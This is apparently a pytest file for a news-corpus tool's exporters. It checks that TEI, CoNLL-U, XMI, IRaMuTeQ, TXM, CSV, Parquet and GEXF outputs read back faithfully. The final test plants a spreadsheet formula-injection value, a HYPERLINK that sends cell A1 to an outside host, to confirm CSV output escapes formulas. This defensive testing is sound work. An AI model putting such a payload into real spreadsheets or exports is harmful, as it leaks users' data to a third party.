"""Each format read back by a program that reads it: the words, the places and the marks return."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from xml.etree.ElementTree import parse

import conllu
import networkx
import pandas as pd
import pytest
import trafilatura
from cassis import load_cas_from_xmi, load_typesystem
from lxml import etree

from cadrage.cli import main
from cadrage.publish.exports import WRITERS, AtOnce
from cadrage.publish.exports.gexf import write_gexf
from cadrage.publish.exports.xmi import ENTITY, SENTENCE
from cadrage.read.imports import find_items

# an astral letter, a control character, markup of four kinds, stars where a line begins
CLEAN = "L'été 𝒜 de <b>Ana Lo</b>.\n*** « Oui & non »\x0b, a-t-elle dit | le 3 mai 2021."


def at(words: str) -> dict[str, object]:
    start = CLEAN.index(words)
    return {"article": "AAA21", "start": start, "end": start + len(words), "text": words}


@pytest.fixture
def tables() -> dict[str, pd.DataFrame]:
    """One article of our own, nasty to every format."""
    cut = CLEAN.index("\n") + 1
    article = {
        "article": "AAA21", "outlet": "Le Val & Cie", "outlet_kind": "news site",
        "country": "Nowhere", "title": 'A "b" <c>', "author": None, "language": "fr",
        "published_earliest": "2021-05-03", "published_latest": "2021-05-09",
        "address": "https://example.org/?a=1&b=2",
    }  # fmt: skip
    sentences = [
        {"article": "AAA21", "sentence": 1, "start": 0, "end": cut - 1, "text": CLEAN[: cut - 1],
         "kind": "body"},
        {"article": "AAA21", "sentence": 2, "start": cut, "end": len(CLEAN), "text": CLEAN[cut:],
         "kind": "body"},
    ]  # fmt: skip
    mention = {**at("Ana Lo"), "sentence": 1, "actor": "ana lo|x", "name": "Ana Lo",
               "kind": "person"}  # fmt: skip
    date = {
        **at("le 3 mai 2021"),
        "sentence": 2,
        "type": "DATE",
        "value": "2021-05-03",
        "mod": None,
    }
    quote = {**at("Oui & non"), "sentence": 2, "kind": "direct", "cue": "dit",
             "cue_class": "neutral",
             "speaker_name": "Ana Lo", "relay": None, "cue_start": None, "cue_end": None,
             "speaker_start": None, "speaker_end": None}  # fmt: skip
    return {
        "articles": pd.DataFrame([article]),
        "texts": pd.DataFrame([{"article": "AAA21", "raw": CLEAN, "clean": CLEAN}]),
        "sentences": pd.DataFrame(sentences),
        "mentions": pd.DataFrame([mention]),
        "dates": pd.DataFrame([date]),
        "quotes": pd.DataFrame([quote]),
    }


def test_tei_is_well_formed_and_its_ranges_hold(tables, tmp_path: Path) -> None:
    (path,) = WRITERS["tei"](AtOnce(tables), tmp_path)
    names = {"t": "http://www.tei-c.org/ns/1.0"}
    root = parse(path).getroot()
    lines = {
        one.get("{http://www.w3.org/XML/1998/namespace}id"): one.text
        for one in root.iterfind(".//t:s", names)
    }
    assert list(lines) == ["AAA21.1", "AAA21.2"]
    assert lines["AAA21.1"] == "L'été 𝒜 de <b>Ana Lo</b>."
    spans = root.findall(".//t:span", names)
    assert {span.text for span in spans} == {"Ana Lo", "Oui & non", "le 3 mai 2021"}
    for span in spans:
        place, start, length = span.get("target").removeprefix("#string-range(")[:-1].split(",")
        assert lines[place][int(start) : int(start) + int(length)] == span.text
    assert root.find(".//t:bibl/t:title", names).text == 'A "b" <c>'


def test_tei_is_what_its_schema_says(tables, tmp_path: Path) -> None:
    """By the TEI schema that trafilatura ships, which is without the module `analysis`."""
    (path,) = WRITERS["tei"](AtOnce(tables), tmp_path)
    root, tei = etree.parse(path), "{http://www.tei-c.org/ns/1.0}"
    dtd = etree.DTD(str(Path(trafilatura.__file__).parent / "data" / "tei_corpus.dtd"))
    dtd.validate(root)
    unknown = {one.message for one in dtd.error_log if one.type_name == "DTD_UNKNOWN_ELEM"}
    assert {message.split()[-1] for message in unknown} == {"s", "span", "spanGrp"}
    for sentence in root.iter(f"{tei}s"):
        sentence.tag = f"{tei}seg"
    for layers in list(root.iter(f"{tei}standOff")):
        layers.getparent().remove(layers)
    assert dtd.validate(root), dtd.error_log


def test_conllu_gives_the_text_back(tables, tmp_path: Path) -> None:
    (path,) = WRITERS["conllu"](AtOnce(tables), tmp_path)
    sentences = conllu.parse(path.read_text(encoding="utf-8"))
    assert [one.metadata["sent_id"] for one in sentences] == ["AAA21.1", "AAA21.2"]
    for number, sentence in enumerate(sentences):
        row = tables["sentences"].iloc[number]
        for token in sentence:
            offset = int(token["misc"]["Offset"])
            assert CLEAN[offset : offset + len(token["form"])] == token["form"]
            assert row["start"] <= offset < row["end"]
    marked = [
        (token["form"], token["misc"].get("Entity")) for token in sentences[0]
        if token["misc"].get("Entity")
    ]  # fmt: skip
    assert marked == [("Ana", "B-person"), ("Lo", "I-person")]
    assert {token["misc"].get("EntityId") for token in sentences[0]} == {None, "ana_lo_x"}
    quoted = [token["form"] for token in sentences[1] if token["misc"].get("Quote")]
    assert quoted == ["Oui", "&", "non"]


def test_xmi_is_read_back_by_its_own_library(tables, tmp_path: Path) -> None:
    types, path = WRITERS["xmi"](AtOnce(tables), tmp_path)
    with types.open("rb") as one, path.open("rb") as other:
        cas = load_cas_from_xmi(other, typesystem=load_typesystem(one))
    assert len(cas.sofa_string) == len(CLEAN)
    assert [one.get_covered_text() for one in cas.select(ENTITY)] == ["Ana Lo"]
    assert cas.select(ENTITY)[0].value == "person"
    assert [one.get_covered_text() for one in cas.select("webanno.custom.Timex")] == [
        "le 3 mai 2021"
    ]
    assert cas.select("webanno.custom.Quote")[0].speaker == "Ana Lo"
    assert len(cas.select(SENTENCE)) == 2


def test_iramuteq_comes_back_through_our_own_reader(tables, tmp_path: Path) -> None:
    (path,) = WRITERS["iramuteq"](AtOnce(tables), tmp_path)
    text = path.read_text(encoding="utf-8")
    first, _, body = text.partition("\n")
    assert first == (
        "**** *article_AAA21 *outlet_LeValCie *kind_NewsSite *country_Nowhere *year_2021"
        " *date_2021-05-03"
    )
    assert not [line for line in body.splitlines() if line.lstrip().startswith("*")]
    (item,) = find_items([path])
    assert item.published == "2021-05-03"
    assert "a-t-elle dit" in item.text


def test_txm_has_a_row_for_each_text(tables, tmp_path: Path) -> None:
    text, table = WRITERS["txm"](AtOnce(tables), tmp_path)
    with table.open(encoding="utf-8", newline="") as lines:
        (row,) = csv.DictReader(lines)
    assert (tmp_path / f"{row['id']}.txt") == text
    assert (row["title"], row["published_latest"]) == ('A "b" <c>', "2021-05-09")
    assert "𝒜" in text.read_text(encoding="utf-8")


def test_tables_come_back_as_they_are(tables, tmp_path: Path) -> None:
    for path in WRITERS["csv"](AtOnce(tables), tmp_path):
        read = pd.read_csv(path, keep_default_na=False, dtype=str, lineterminator="\n")
        assert list(read["article"]) == list(tables[path.stem]["article"])
    for path in WRITERS["parquet"](AtOnce(tables), tmp_path):
        pd.testing.assert_frame_equal(pd.read_parquet(path), tables[path.stem], check_dtype=False)


def test_gexf_is_read_back_and_bears_no_day(tmp_path: Path) -> None:
    nodes = pd.DataFrame(
        [{"actor": "a", "name": "Ana & Lo\x0b", "mentions": 3, "camp": None},
         {"actor": "b", "name": "<B>", "mentions": 1, "camp": "x"}]
    )  # fmt: skip
    edges = pd.DataFrame([{"source": "a", "target": "b", "weight": 2, "evidence": "AAA21.1"}])
    path = write_gexf(nodes, edges, tmp_path / "network.gexf")
    graph = networkx.read_gexf(path)
    assert graph.nodes["a"]["label"] == "Ana & Lo\ufffd"
    assert graph.nodes["b"]["mentions"] == 1
    assert graph.edges["a", "b"]["weight"] == 2
    assert graph.edges["a", "b"]["evidence"] == "AAA21.1"
    assert "lastmodified" not in path.read_text(encoding="utf-8")


def test_who_stands_beside_whom_is_exported_as_it_was_counted(tmp_path: Path) -> None:
    nodes = pd.DataFrame(
        [{"name": "Ana Lo", "kind": "person", "side": "x", "sentences": 3, "evidence": "AAA21.1"},
         {"name": "Le Val", "kind": "organisation", "side": "y", "sentences": 1,
          "evidence": "AAA21.1"}]
    )  # fmt: skip
    pairs = pd.DataFrame(
        [{"first": "Ana Lo", "second": "Le Val", "sentences": 2, "evidence": "AAA21.1 AAA21.2"}]
    )
    (path,) = WRITERS["gexf"](AtOnce({"network_nodes": nodes, "network_pairs": pairs}), tmp_path)
    graph = networkx.read_gexf(path)
    assert dict(graph.nodes["Ana Lo"]) == {
        "label": "Ana Lo",
        "kind": "person",
        "side": "x",
        "sentences": 3,
    }
    assert graph.edges["Ana Lo", "Le Val"]["weight"] == 2
    (path,) = WRITERS["gexf"](
        AtOnce({"network_nodes": nodes[:0], "network_pairs": pairs[:0]}), tmp_path
    )
    assert not networkx.read_gexf(path)


@pytest.mark.parametrize("name", sorted({"conllu", "iramuteq", "tei", "txm", "xmi"}))
def test_two_exports_are_the_same_to_the_byte(name: str, tables, tmp_path: Path) -> None:
    made = []
    for folder in (tmp_path / "one", tmp_path / "two"):
        folder.mkdir()
        files = WRITERS[name](AtOnce(tables), folder)
        made.append({path.name: path.read_bytes() for path in files})
    assert made[0] == made[1]


@pytest.mark.model
def test_the_command_writes_into_a_new_folder_or_refuses(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    assert main(["export", "odd", "--out", str(out)]) == 1
    assert "there are: conllu, csv" in capsys.readouterr().err
    assert main(["export", "timelinejs", "--out", str(out)]) == 0
    assert json.loads((out / "chronology.json").read_text(encoding="utf-8"))["events"]
    assert main(["export", "gexf", "--out", str(tmp_path / "gexf")]) == 0
    graph = networkx.read_gexf(tmp_path / "gexf" / "network.gexf")
    assert graph.number_of_edges() and all(node["side"] for _, node in graph.nodes(data=True))
    assert main(["export", "timelinejs", "--out", str(out)]) == 1
    assert "new or empty" in capsys.readouterr().err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["gexf", "out"]


def test_no_cell_of_a_table_for_readers_is_a_formula(tables, tmp_path: Path) -> None:
    attack = '=HYPERLINK("https://val.example/?"&A1,"x")'
    tables["articles"]["title"] = attack
    for format in ("txm", "csv"):
        (tmp_path / format).mkdir()
        for path in WRITERS[format](AtOnce(tables), tmp_path / format):
            if path.suffix == ".csv":
                with path.open(encoding="utf-8", newline="") as file:
                    cells = [cell for row in csv.reader(file) for cell in row]
                assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), path
    with (tmp_path / "txm" / "metadata.csv").open(encoding="utf-8", newline="") as file:
        assert [row["title"] for row in csv.DictReader(file)] == [f"'{attack}"]
